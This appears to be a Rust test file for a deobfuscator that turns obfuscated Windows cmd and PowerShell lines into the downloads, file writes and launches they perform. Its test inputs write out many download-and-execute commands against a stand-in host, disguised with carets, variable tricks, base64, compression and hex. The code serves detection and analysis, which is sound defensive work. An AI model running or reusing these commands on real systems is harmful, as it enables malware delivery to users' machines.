//! Command lines in many spellings, whole results; and what holds for any text.

use proptest::prelude::*;

use super::*;
use crate::base::{Budget, Limits, PartId, Problems, Stage};

fn with_cx<T>(work: impl FnOnce(&mut Cx<'_>) -> T) -> T {
    let mut budget = Budget::new(&Limits::default());
    let mut problems = Problems::default();
    work(&mut Cx { part: PartId(0), stage: Stage::Text, budget: &mut budget, problems: &mut problems })
}

fn read(command: &str) -> Decoded {
    with_cx(|cx| Desk::new().read(command, cx)).unwrap()
}

fn fetch(url: &str, to: Option<&str>) -> Fact {
    Fact::Fetch { url: url.to_owned(), to: to.map(str::to_owned) }
}

fn run(target: &str) -> Fact {
    Fact::Run { target: target.to_owned() }
}

fn write(path: &str, text: &str) -> Fact {
    Fact::Write { path: path.to_owned(), bytes: text.into() }
}

#[track_caller]
fn does(command: &str, expected: &[Fact]) {
    let decoded = read(command);
    assert_eq!(decoded.facts, expected, "{command}: {:#?}", decoded.layers);
    assert!(!decoded.cut);
}

#[track_caller]
fn shows(command: &str, expected: &str) {
    let decoded = read(command);
    let last = decoded.layers.last().map(|layer| layer.text.as_str());
    assert_eq!(last, Some(expected), "{command}: {:#?}", decoded.layers);
}

/// Base64 of UTF-16, as `-EncodedCommand` takes it.
fn encoded(script: &str) -> String {
    base64_of(&script.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>())
}

fn base64_of(bytes: &[u8]) -> String {
    const SIGNS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for chunk in bytes.chunks(3) {
        let bits =
            chunk.iter().fold(0u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
        for at in 0..4 {
            let sign = SIGNS[usize::try_from(bits >> (18 - 6 * at) & 63).unwrap()];
            text.push(if at > chunk.len() { '=' } else { char::from(sign) });
        }
    }
    text
}

const URL: &str = "http://files.invalid/a.dll";

#[test]
fn carets_and_quotes_go() {
    does(r"c^m^d /c r^egsvr^32 /s ..\a.ocx", &[run(r"regsvr32 /s ..\a.ocx")]);
    does(r#""C:\Windows\System32\cmd.exe" /d /s /c "regsvr32 /s x.ocx""#, &[run("regsvr32 /s x.ocx")]);
    does(
        r#"cmd.exe /v/c"m^s^hta http://files.invalid/x""#,
        &[run("mshta http://files.invalid/x"), fetch("http://files.invalid/x", None)],
    );
    does(r#"c"m"d/c r"eg"svr32 -s a"#, &[run("regsvr32 -s a")]);
    does(r"%comspec% /c rundll32 a.dll,Go", &[run("rundll32 a.dll,Go")]);
}

#[test]
fn variables_slices_and_replacements_are_put_in() {
    shows("cmd /c %comspec:~-7,3% /c x", "cmd /c x");
    shows("cmd /c echo %PATHEXT:~1,3%", "echo COM");
    shows("cmd /c echo %OS:Windows=x%", "echo x_NT");
    shows("cmd /c echo %comspec:*system32\\=%", "echo cmd.exe");
    does("cmd /c set a=reg&set b=svr32&call %a%%b% /s x.ocx", &[run("regsvr32 /s x.ocx")]);
    does("cmd /v:on /c \"set x=rundll32 a.dll,Go&& !x!\"", &[run("rundll32 a.dll,Go")]);
    does(
        "cmd /c set x=mXsXhta&&call %x:X=% http://files.invalid/x",
        &[run("mshta http://files.invalid/x"), fetch("http://files.invalid/x", None)],
    );
    // On one line a variable is not there before `call` reads again.
    does("cmd /c set qq=regsvr32 x&%qq%", &[run("%qq%")]);
    // A folder of the user keeps its name.
    does(r"cmd /c regsvr32 %TEMP%\x.ocx", &[run(r"regsvr32 %TEMP%\x.ocx")]);
}

#[test]
fn loops_and_conditions_are_followed() {
    does("cmd /c for %i in (regsvr32) do %i /s x.ocx", &[run("regsvr32 /s x.ocx")]);
    let forced = "cmd /v:on /c \"set s=agtshme&& for %a in (5,3,4,2,0,9) do set o=!o!!s:~%a,1!&& if %a==9 call %o:~-5% http://files.invalid/x\"";
    // `set o=` of an unset variable keeps the marks of the first round, as `cmd` does.
    does(forced, &[run("mshta http://files.invalid/x"), fetch("http://files.invalid/x", None)]);
    does("cmd /c if 1==1 (regsvr32 a) else (x.exe)", &[run("regsvr32 a")]);
    does("cmd /c if exist x.txt regsvr32 a", &[run("regsvr32 a")]);
    does("cmd /c if not 1==1 regsvr32 a", &[]);
    does("cmd /c for /l %i in (1,1,2) do regsvr32 %i", &[run("regsvr32 1"), run("regsvr32 2")]);
}

#[test]
fn pieces_that_echo_writes_join_by_path_and_run() {
    does(
        r"cmd /c echo regsvr32 /s a.ocx>%TEMP%\x.bat&echo exit>>%TEMP%\x.bat&%TEMP%\x.bat",
        &[
            write(r"%TEMP%\x.bat", "regsvr32 /s a.ocx\r\nexit\r\n"),
            run(r"%TEMP%\x.bat"),
            run("regsvr32 /s a.ocx"),
        ],
    );
    does("cmd /c (echo a&echo b)>f.txt", &[write("f.txt", "a\r\nb\r\n")]);
    does("cmd /c echo a^&b 2>nul >f.txt", &[write("f.txt", "a&b\r\n")]);
    let script = base64_of(b"regsvr32 /s b.ocx");
    let (first, second) = script.split_at(10);
    let mut desk = Desk::new();
    let facts = with_cx(|cx| {
        let mut facts = Vec::new();
        // Several objects, one file.
        facts.extend(desk.read(&format!("cmd /c echo {first}>>p.txt"), cx).unwrap().facts);
        facts.extend(desk.read(&format!("cmd /c echo {second}>>P.TXT"), cx).unwrap().facts);
        facts.extend(desk.read(r"certutil -decode .\p.txt q.bat && q.bat", cx).unwrap().facts);
        facts
    });
    assert_eq!(
        facts,
        [
            write("p.txt", &format!("{first}\r\n")),
            write("P.TXT", &format!("{first}\r\n{second}\r\n")),
            write("q.bat", "regsvr32 /s b.ocx"),
            run("q.bat"),
            run("regsvr32 /s b.ocx"),
        ]
    );
}

#[test]
fn files_that_macros_wrote_are_decoded_and_run() {
    let mut desk = Desk::new();
    let decoded = with_cx(|cx| {
        desk.write("sheet.txt", b"72 65 67 73 76 72 33 32 20 61", cx).unwrap();
        desk.read("cmd /c certutil -f -decodehex sheet.txt x.cmd&start /b x.cmd", cx).unwrap()
    });
    assert_eq!(decoded.facts, [write("x.cmd", "regsvr32 a"), run("x.cmd"), run("regsvr32 a")]);
    let hows: Vec<_> = decoded.layers.iter().map(|layer| (layer.how, layer.text.as_str())).collect();
    assert!(hows.contains(&(How::Hex, "regsvr32 a")), "{hows:?}");
    let decoded = with_cx(|cx| {
        desk.write(
            "a.vbs",
            b"CreateObject(\"WScript.Shell\").Run \"cmd /c mshta http://files.invalid/x\"",
            cx,
        )
        .unwrap();
        desk.read("wscript //b a.vbs", cx).unwrap()
    });
    assert_eq!(
        decoded.facts,
        [
            run("wscript //b a.vbs"),
            run("mshta http://files.invalid/x"),
            fetch("http://files.invalid/x", None)
        ]
    );
}

#[test]
fn a_decoded_file_keeps_its_bytes() {
    let program: Vec<u8> = (0..=255).collect();
    let bytes = |path: &str| Fact::Write { path: path.to_owned(), bytes: program.clone() };
    let code = base64_of(&program);
    let mut desk = Desk::new();
    let facts = with_cx(|cx| {
        desk.write("a.txt", format!("-----BEGIN-----\r\n{code}").as_bytes(), cx).unwrap();
        desk.read("cmd /c certutil -decode a.txt a.exe&copy /b a.exe+a.exe b.exe&start a.exe", cx)
            .unwrap()
            .facts
    });
    let twice = Fact::Write { path: "b.exe".to_owned(), bytes: [program.as_slice(); 2].concat() };
    assert_eq!(facts, [bytes("a.exe"), twice, run("a.exe")]);
    does(
        &format!(
            "powershell [IO.File]::WriteAllBytes(\"$env:TEMP\\a.exe\",[Convert]::FromBase64String('{code}'));&'%TEMP%\\a.exe'"
        ),
        &[bytes("$env:TEMP\\a.exe"), run("%TEMP%\\a.exe")],
    );
    does(
        &format!("powershell sc a.exe -Encoding Byte -Value ([Convert]::FromBase64String('{code}'))"),
        &[bytes("a.exe")],
    );
}

#[test]
fn what_powershell_writes_is_run() {
    does(
        "powershell -c 'regsvr32 /s b.ocx'|Out-File -Encoding ascii a.bat;start-process a.bat",
        &[write("a.bat", "regsvr32 /s b.ocx\r\n"), run("a.bat"), run("regsvr32 /s b.ocx")],
    );
    does(
        "powershell -c sc $env:TEMP\\a.cmd 'regsvr32 /s b.ocx';cmd /c %temp%\\a.cmd",
        &[write("$env:TEMP\\a.cmd", "regsvr32 /s b.ocx\r\n"), run("%temp%\\a.cmd"), run("regsvr32 /s b.ocx")],
    );
}

#[test]
fn downloaders_say_what_and_where_to() {
    let fetched = [fetch(URL, Some("a.dll"))];
    does(&format!("certutil -urlcache -split -f {URL} a.dll"), &fetched);
    does(&format!("certutil.exe /f /UrlCache {URL} a.dll"), &fetched);
    does(&format!("bitsadmin /transfer j /download /priority high {URL} a.dll"), &fetched);
    does(&format!("curl -s {URL} -o a.dll"), &fetched);
    does(&format!("curl -oa.dll {URL}"), &fetched);
    does(&format!("curl -O {URL}"), &fetched);
    does(&format!("wget -q {URL} -O a.dll"), &fetched);
    does(&format!("powershell iwr {URL} -OutFile a.dll"), &fetched);
    does(&format!("powershell -c \"(New-Object Net.WebClient).DownloadFile('{URL}','a.dll')\""), &fetched);
    does(&format!("powershell Start-BitsTransfer -Source '{URL}' -Destination a.dll"), &fetched);
    does(&format!("powershell wget '{URL}' -o a.dll"), &fetched);
    does("curl files.invalid/x.hta -o b.hta", &[fetch("http://files.invalid/x.hta", Some("b.hta"))]);
}

#[test]
fn launchers_say_what_they_run() {
    does(
        "regsvr32 /u /n /s /i:http://files.invalid/a.sct scrobj.dll",
        &[
            run("regsvr32 /u /n /s /i:http://files.invalid/a.sct scrobj.dll"),
            fetch("http://files.invalid/a.sct", None),
        ],
    );
    does(
        "msiexec /q /i http://files.invalid/a.msi",
        &[run("msiexec /q /i http://files.invalid/a.msi"), fetch("http://files.invalid/a.msi", None)],
    );
    does("start \"\" /min regsvr32 a", &[run("regsvr32 a")]);
    does("pcalua -a x.exe", &[run("x.exe")]);
    does("forfiles /p c:\\windows /m notepad.exe /c \"cmd /c regsvr32 a\"", &[run("regsvr32 a")]);
    does("schtasks /create /tn t /tr \"regsvr32 a\" /sc daily", &[run("regsvr32 a")]);
    does("wmic process call create \"regsvr32 a\"", &[run("regsvr32 a")]);
    does(
        "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"regsvr32 a\"\":close\")",
        &[
            run(
                "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"regsvr32 a\"\":close\")",
            ),
            run("regsvr32 a"),
        ],
    );
    does(
        r"cmd /c copy %windir%\system32\certutil.exe c.exe & c.exe -urlcache -f http://files.invalid/a b.exe & b.exe",
        &[fetch("http://files.invalid/a", Some("b.exe")), run("b.exe")],
    );
    does("echo regsvr32 a|cmd", &[run("regsvr32 a")]);
}

#[test]
fn encoded_commands_are_read_in_every_spelling_of_the_switch() {
    let script = format!("IEX (New-Object Net.WebClient).DownloadString('{URL}')");
    let code = encoded(&script);
    for switch in ["-e", "-ec", "-en", "-enc", "/EncodedCommand", "-eNcOdEdCoM", "\u{2013}enc", "-e^nc"] {
        let decoded = read(&format!("powershell -nop -w hidden -ep bypass {switch} {code}"));
        assert_eq!(
            decoded.layers.iter().map(|layer| layer.how).find(|how| *how != How::Shell),
            Some(How::EncodedCommand),
            "{switch}"
        );
        assert!(decoded.layers.iter().any(|layer| layer.text == script), "{switch}");
        assert_eq!(decoded.facts, [fetch(URL, None)], "{switch}");
    }
}

#[test]
fn strings_of_scripts_are_put_together() {
    let shown = |script: &str, expected: &str| shows(&format!("powershell -c {script}"), expected);
    shown("$x='a'+\"b\" + 'c'", "$x='abc'");
    shown("x ('{1}{0}' -f 'b','a')", "x 'ab'");
    shown("x ([char]104+[char]0x69)", "x 'hi'");
    shown("x (-join('a','b','c'))", "x 'abc'");
    shown("x (('a','b') -join '-')", "x 'a-b'");
    shown("x ([char[]](104,105) -join '')", "x 'hi'");
    shown("x ('hZllo'.Replace('Z','e'))", "x 'hello'");
    shown("x ('hZllo' -creplace 'Z','e')", "x 'hello'");
    shown("x ('h12e3llo' -replace '\\d+','')", "x 'hello'");
    shown("x ('hZeZllo' -creplace '[A-Z]')", "x 'hello'");
    shown("x ('hzeZllo' -creplace 'Z','')", "x 'hzello'");
    shown("x (('a1','b2') -replace '[0-9]' -join '')", "x 'ab'");
    shown("x ('a~b%c' -split '[~%]' -join '')", "x 'abc'");
    shown("x ('a.b.c' -split '.',2,'SimpleMatch' -join '')", "x 'ab.c'");
    shown("x (-split 'a  b' -join '')", "x 'ab'");
    shown("x ('abc' -replace 'b|c' + '')", "x 'a'");
    // What an unknown text is split at is not split itself.
    assert_eq!(read("powershell -c x ($a -split 'b c')").layers, []);
    assert_eq!(read("powershell -c x ($a.b() -join 'b c')").layers, []);
    shown("x ('lohel' -replace '(lo)(.+)','$2$1')", "x 'hello'");
    shown("x ('he--llo' -split '(-)-' -join '')", "x 'he-llo'");
    // Looking ahead is outside what is read: the script stays as it is, and is no guess.
    assert_eq!(read("powershell -c x ('bXc' -replace '(?=x)')").layers, []);
    shown("x ('olleh'[-1..-5] -join '')", "x 'hello'");
    shown("x ('104x105'.Split('x')|%{[char][int]$_}) -join ''", "x 'hi'");
    shown("x ([string]::Join('',('a','b')))", "x 'ab'");
    shown("x ('hello'.Substring(1,3))", "x 'ell'");
    shown("$a='in';x ($a+'valid')", "$a='in';x 'invalid'");
    shown("&($pshome[4]+'ex') 'a'", "a");
    shown("W`r`ite 'a' ", "Write 'a'");
    shown("x ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk=')))", "x 'hi'");
    shown(
        "x ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('aABpAA==')))",
        "x 'hi'",
    );
}

#[test]
fn scripts_in_scripts_are_read() {
    let inner = format!("(New-Object Net.WebClient).DownloadFile('{URL}','a.dll');regsvr32 /s a.dll");
    let expected = [fetch(URL, Some("a.dll")), run("regsvr32 /s a.dll")];
    let quoted = inner.replace('\'', "''");
    does(&format!("powershell iex('{quoted}')"), &expected);
    does(&format!("powershell -c \"'{quoted}'|iex\""), &expected);
    does(
        &format!(
            "powershell -c iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{}')))",
            base64_of(inner.as_bytes())
        ),
        &expected,
    );
    let twice = encoded(&format!("powershell -enc {}", encoded(&inner)));
    does(&format!("cmd /c powershell -enc {twice}"), &expected);
    does(
        "powershell -c $u='http://files.invalid/';iwr ($u+'a.dll') -o a.dll;start-process regsvr32 '/s a.dll'",
        &expected,
    );
    let deflated = miniz_oxide::deflate::compress_to_vec(inner.as_bytes(), 6);
    let stream = format!(
        "powershell -c iex(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
        base64_of(&deflated)
    );
    let decoded = read(&stream);
    assert_eq!(decoded.facts, expected);
    assert!(decoded.layers.contains(&Layer { text: inner.clone(), how: How::Inflated }));
    let mut gzip = vec![0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0];
    gzip.extend(&deflated);
    does(&stream.replace(&base64_of(&deflated), &base64_of(&gzip)), &expected);
}

#[test]
fn command_lines_are_found_in_other_text() {
    let found = |text: &str| with_cx(|cx| Desk::new().read_in(text, cx)).unwrap().facts;
    assert_eq!(found("EXEC(\"cmd /c re^gsvr32 a\")"), [run("regsvr32 a")]);
    assert_eq!(
        found("Shell C:\\Windows\\System32\\mshta.exe http://files.invalid/x"),
        [run(r"C:\Windows\System32\mshta.exe http://files.invalid/x"), fetch("http://files.invalid/x", None)]
    );
    assert_eq!(found("a man in control of the start"), []);
    assert_eq!(found("ALERT(\"This is text\")"), []);
}

#[test]
fn plain_text_and_innocent_commands_do_nothing() {
    for text in [
        "",
        " ",
        "=",
        "echo hello",
        "cmd",
        "cmd /c",
        "cmd /c cd ..&cls",
        "powershell",
        "for",
        "set",
        "if",
        "rem regsvr32 a",
        "(",
        ")",
        "|",
        "&&",
        "^",
        "\"",
        "%",
        "!",
    ] {
        does(text, &[]);
    }
}

#[test]
fn what_grows_without_end_is_cut() {
    let doubling = format!("cmd /v:on /c \"set x=aaaaaaaaaaaaaaaa{}\"", "&set x=!x!!x!".repeat(64));
    let decoded = read(&doubling);
    assert!(decoded.layers.iter().all(|layer| layer.text.len() < 1 << 20));
    let nested = format!("{}regsvr32 a", "cmd /c ".repeat(100));
    assert!(read(&nested).cut);
    let replacing = format!("powershell -c $x='a'{}", ".Replace('a','aaaaaaaa')".repeat(40));
    assert!(read(&replacing).layers.iter().all(|layer| layer.text.len() < 4 << 20));
    let wide = format!("powershell -c x ({})", vec!["'a'"; 60_000].join("+"));
    assert_eq!(read(&wide).layers.last().map(|layer| layer.text.len()), Some(60_004));
    let calls = "cmd /c ".to_owned() + &"call x&".repeat(20_000);
    assert!(read(&calls).cut);
}

#[test]
fn set_computes_whole_numbers() {
    does(
        "cmd /v:on /c set /a p=80+8000&&call certutil -urlcache -f http://files.invalid:!p!/a a.dll",
        &[fetch("http://files.invalid:8080/a", Some("a.dll"))],
    );
}

#[test]
fn for_reads_the_lines_that_a_command_shows() {
    does(
        "cmd /c for /f \"tokens=2 delims=,\" %a in ('echo x,http://files.invalid/a,y') do certutil -urlcache -f %a a.dll",
        &[fetch("http://files.invalid/a", Some("a.dll"))],
    );
    does(
        "cmd /c for /f \"tokens=1,2*\" %i in (\"mshta http://files.invalid/x and more\") do %i %j",
        &[run("mshta http://files.invalid/x"), fetch("http://files.invalid/x", None)],
    );
    does(
        "cmd /c echo http://files.invalid/a>u.txt&for /f %a in (u.txt) do certutil -urlcache -f %a a.dll",
        &[write("u.txt", "http://files.invalid/a\r\n"), fetch("http://files.invalid/a", Some("a.dll"))],
    );
}

#[test]
fn strings_in_double_quotes_name_variables() {
    shows(
        "powershell $h='files.invalid';$n=\"a\";iwr \"http://$h/${n}.exe?`n\" -OutFile b.exe",
        "$h='files.invalid';$n='a';iwr 'http://files.invalid/a.exe?\n' -OutFile b.exe",
    );
    let escaped = read("powershell $h='x';iwr \"http://`$h/a\"");
    assert!(escaped.layers.iter().all(|layer| !layer.text.contains("http://x/")), "{:#?}", escaped.layers);
}

#[test]
fn a_file_that_a_macro_wrote_is_run_by_its_name() {
    let decoded = with_cx(|cx| {
        let mut desk = Desk::new();
        let lines = "set u=http://files.invalid/a\r\ncertutil -urlcache -f %u% a.dll\r\n";
        desk.write("..\\oxnv1.bat", lines.as_bytes(), cx)?;
        desk.read_in("..\\oxnv1.bat", cx)
    });
    let facts = decoded.unwrap().facts;
    assert!(facts.contains(&fetch("http://files.invalid/a", Some("a.dll"))), "{facts:?}");
}

fn any_command() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        prop::sample::select(vec![
            "cmd /c ",
            "powershell -c ",
            "-enc ",
            "&",
            "&&",
            "|",
            ">",
            ">>",
            "^",
            "\"",
            "'",
            "%",
            "!",
            "(",
            ")",
            "set x=",
            "call ",
            "%x%",
            "!x:~1,2!",
            "%comspec:~-3%",
            "for %i in (1 2) do ",
            "if 1==1 ",
            "echo ",
            "x.bat",
            "certutil -decode ",
            "a.txt ",
            "'a'",
            "+",
            "-f ",
            "-join",
            "-replace ",
            "-split ",
            "'(a|b)*?[^c-]{2,3}\\d+$'",
            "'((a)|(?:b?)*){2,}','$2${1}'",
            "'[^a-z]|.*'",
            "[char]",
            "[",
            "]",
            "65",
            ",",
            "..",
            ".Replace(",
            "$x",
            "=",
            "iex ",
            "|%{",
            "}",
            "FromBase64String('aGk=')",
            "http://files.invalid/x ",
            " ",
            "\n",
            "`",
            "日",
            "mshta ",
            "rundll32 ",
            "copy ",
        ])
        .prop_map(str::to_owned),
        "\\PC{0,4}",
    ];
    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 500, ..ProptestConfig::default() })]

    #[test]
    fn any_text_is_read_within_bounds_and_twice_the_same(text in any_command()) {
        let decoded = read(&text);
        prop_assert!(decoded.layers.len() <= MOST && decoded.facts.len() <= MOST);
        prop_assert!(decoded.layers.iter().map(|layer| layer.text.len()).sum::<usize>() <= ROOM);
        prop_assert_eq!(read(&text), decoded);
        let inside = with_cx(|cx| Desk::new().read_in(&text, cx));
        prop_assert!(inside.is_ok());
    }
}
